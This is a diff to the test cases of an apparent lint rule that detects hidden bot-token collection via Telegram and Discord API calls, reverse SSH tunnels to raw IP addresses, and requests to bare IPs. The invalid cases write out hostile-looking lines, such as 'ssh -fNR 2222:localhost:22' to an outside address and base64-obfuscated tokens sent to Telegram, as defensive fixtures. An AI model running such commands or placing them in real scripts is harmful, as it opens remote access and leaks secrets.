@@ -44,6 +44,7 @@ await ruleTester(rule, {
     { code: 'const api = "https://api.telegram.org/bot"; fetch(`${api}${Deno.env.get("BOT_TOKEN")}/getMe`);' },
     { code: 'fetch(`https://discord.com/api/webhooks/${process.env.HOOK_ID}/${process.env.HOOK_TOKEN}`, { method: "POST" });' },
     { filename: 'notify.sh', code: 'curl -s "https://api.telegram.org/bot${BOT_TOKEN}/sendMessage" -d text=done' },
+    { filename: 'notify.sh', code: "key=''\ncurl -s \"https://api.telegram.org/bot${key}/sendMessage\" -d text=done" },
     { filename: '.github/workflows/ci.yml', code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s "https://api.telegram.org/bot${{ secrets.BOT_TOKEN }}/sendMessage" -d text=done' },
     // People log in to machines of their own by their address.
     { filename: 'deploy.sh', code: 'ssh root@185.12.44.9 "cd /app && chown -R app . && git pull"\nrsync -avzR dist/ app@185.12.44.9:/srv/\nscp a.tgz app@185.12.44.9:/tmp/' },
@@ -161,6 +162,8 @@ await ruleTester(rule, {
     { code: 'fetch(`https://api.telegram.org/bot${atob(kept)}/sendMessage`);', errors: [{ messageId: 'collection' }] },
     { filename: 'notify.sh', code: 'T=$(cat .t | base64 -d)\ncurl -s "https://api.telegram.org/bot${T}/sendMessage" -d text=done', errors: [{ messageId: 'collection' }] },
     { filename: 'notify.sh', code: 'curl -s "https://api.telegram.org/bot$(cat .t)/sendMessage" -d text=done', errors: [{ messageId: 'collection' }] },
+    { filename: 'notify.sh', code: 'key=""; key=$(base64 -d .t)\ncurl -s "https://api.telegram.org/bot${key}/sendMessage" -d text=done', errors: [{ messageId: 'collection' }] },
+    { filename: 'notify.sh', code: 'key="77:zz"\ncurl -s "https://api.telegram.org/bot${key}/sendMessage" -d text=done', errors: [{ messageId: 'collection' }] },
     { filename: 'a.sh', code: 'ssh -fNR 2222:localhost:22 x@185.12.44.9', errors: [{ messageId: 'address' }] },
     { filename: 'a.sh', code: 'ssh -o RemoteForward=2222:localhost:22 x@185.12.44.9', errors: [{ messageId: 'address' }] },
     { filename: 'a.sh', code: 'curl https://185.12.44.9/x', errors: [{ messageId: 'address' }] },
